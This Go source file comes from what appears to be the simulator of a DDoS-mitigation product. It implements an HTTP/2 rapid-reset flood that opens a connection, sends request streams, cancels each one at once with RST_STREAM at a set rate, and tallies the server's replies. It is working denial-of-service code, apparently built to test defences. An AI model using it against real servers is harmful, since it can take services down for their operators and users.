package sim

import (
	"bytes"
	"context"
	"io"
	"math/rand/v2"
	"net/http"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/rampart-shield/rampart/internal/demo"
)

// rapidResetBatch is the pacing granularity of h2-rapid-reset: streams are
// sent in bursts every rapidResetBatch.
const rapidResetBatch = 10 * time.Millisecond

// rapidResetSource keeps one HTTP/2 connection from src open (reopening it
// after the server closes it, a.Interval or 1s later) and opens and at once
// resets a.Rate streams per second on it, until ctx ends. Each stream counts
// as one attack request; a refused connection counts as one too.
func (r *runner) rapidResetSource(ctx context.Context, a Attack, idx int, src netip.Addr) {
	rng := rand.New(rand.NewPCG(r.cfg.Seed, uint64(roleAttack)<<32|uint64(idx)|1<<30))
	if !wait(ctx, time.Duration(rng.Int64N(int64(rapidResetBatch)))) {
		return
	}
	backoff := a.Interval
	if backoff <= 0 {
		backoff = time.Second
	}
	// On a schedule, the connection opens with the first window; streams
	// follow the schedule's level (none between waves).
	if s := a.schedule(); !s.isZero() {
		from, _ := s.window(time.Since(r.start), 0)
		if !wait(ctx, time.Until(r.start.Add(from))) {
			return
		}
	}
	for ctx.Err() == nil {
		if !r.rapidResetConn(ctx, a, src) {
			return
		}
		if !wait(ctx, backoff) {
			return
		}
	}
}

// rapidResetConn runs one connection; false when the request cap is
// reached.
func (r *runner) rapidResetConn(ctx context.Context, a Attack, src netip.Addr) bool {
	conn, err := r.dialRaw(ctx, src, nil, []string{"h2"})
	if err != nil {
		if !r.take() {
			return false
		}
		r.attackSent.Add(1)
		if ctx.Err() == nil {
			r.record(roleAttack, nil, err)
		}
		return true
	}
	defer conn.Close()
	connCtx, cancel := context.WithCancel(ctx)
	defer cancel()
	stop := context.AfterFunc(connCtx, func() { conn.Close() })
	defer stop()

	var wmu sync.Mutex // the Framer is not safe for concurrent writes
	fr := http2.NewFramer(conn, conn)
	fr.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	fr.MaxHeaderListSize = 64 << 10
	conn.SetDeadline(time.Now().Add(r.cfg.Duration + r.cfg.Grace))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		r.stat[roleAttack].add("closed", 1)
		return true
	}
	if err := fr.WriteSettings(http2.Setting{ID: http2.SettingEnablePush, Val: 0}); err != nil {
		r.stat[roleAttack].add("closed", 1)
		return true
	}

	// The reader acknowledges settings and pings, returns flow-control
	// credit, and counts the answers and GOAWAY.
	readerDone := make(chan struct{})
	go func() {
		defer close(readerDone)
		defer cancel()
		for {
			f, err := fr.ReadFrame()
			if err != nil {
				if ctx.Err() == nil {
					r.stat[roleAttack].add("closed", 1)
				}
				return
			}
			wmu.Lock()
			switch f := f.(type) {
			case *http2.SettingsFrame:
				if !f.IsAck() {
					err = fr.WriteSettingsAck()
				}
			case *http2.PingFrame:
				if !f.IsAck() {
					err = fr.WritePing(true, f.Data)
				}
			case *http2.DataFrame:
				if n := f.Length; n > 0 {
					err = fr.WriteWindowUpdate(0, n)
				}
			case *http2.MetaHeadersFrame:
				r.recordH2(f)
			case *http2.GoAwayFrame:
				r.stat[roleAttack].add("goaway:"+f.ErrCode.String(), 1)
			}
			wmu.Unlock()
			if err != nil {
				return
			}
		}
	}()

	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	scheme := "http"
	if r.target.TLS {
		scheme = "https"
	}
	streamID := uint32(1)
	// Credit accrues with the time elapsed, so ticks lost to a busy
	// machine do not lower the rate; it is capped at one second's worth.
	var credit float64
	sched := a.schedule()
	last := time.Now()
	t := time.NewTicker(rapidResetBatch)
	defer t.Stop()
	for {
		select {
		case <-connCtx.Done():
			<-readerDone
			return true
		case now := <-t.C:
			rate := a.Rate
			if !sched.isZero() {
				level, _ := sched.level(now.Sub(r.start))
				rate *= level
			}
			credit = min(credit+rate*now.Sub(last).Seconds(), max(a.Rate, 1))
			last = now
		}
		for ; credit >= 1; credit-- {
			if streamID > 1<<31-2 {
				return true // stream ids exhausted: reconnect
			}
			if !r.take() {
				return false
			}
			r.attackSent.Add(1)
			hbuf.Reset()
			enc.WriteField(hpack.HeaderField{Name: ":method", Value: "GET"})
			enc.WriteField(hpack.HeaderField{Name: ":scheme", Value: scheme})
			enc.WriteField(hpack.HeaderField{Name: ":authority", Value: r.target.HostHeader})
			enc.WriteField(hpack.HeaderField{Name: ":path", Value: a.Path})
			enc.WriteField(hpack.HeaderField{Name: "user-agent", Value: profiles[0].ua})
			enc.WriteField(hpack.HeaderField{Name: "accept", Value: profiles[0].acceptNav})
			enc.WriteField(hpack.HeaderField{Name: strings.ToLower(demo.RoleHeader), Value: roleNames[roleAttack]})
			wmu.Lock()
			err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: streamID, BlockFragment: hbuf.Bytes(), EndStream: true, EndHeaders: true})
			if err == nil {
				err = fr.WriteRSTStream(streamID, http2.ErrCodeCancel)
			}
			wmu.Unlock()
			streamID += 2
			if err != nil {
				cancel()
				<-readerDone
				return true
			}
		}
	}
}

// recordH2 counts an HTTP/2 answer (a response HEADERS frame) by status and
// Rampart-Mitigated.
func (r *runner) recordH2(f *http2.MetaHeadersFrame) {
	st := f.PseudoValue("status")
	if st == "" {
		return
	}
	code, err := strconv.Atoi(st)
	if err != nil {
		return
	}
	resp := &http.Response{StatusCode: code, Header: http.Header{}}
	for _, hf := range f.RegularFields() {
		resp.Header.Add(hf.Name, hf.Value)
	}
	r.record(roleAttack, resp, nil)
}
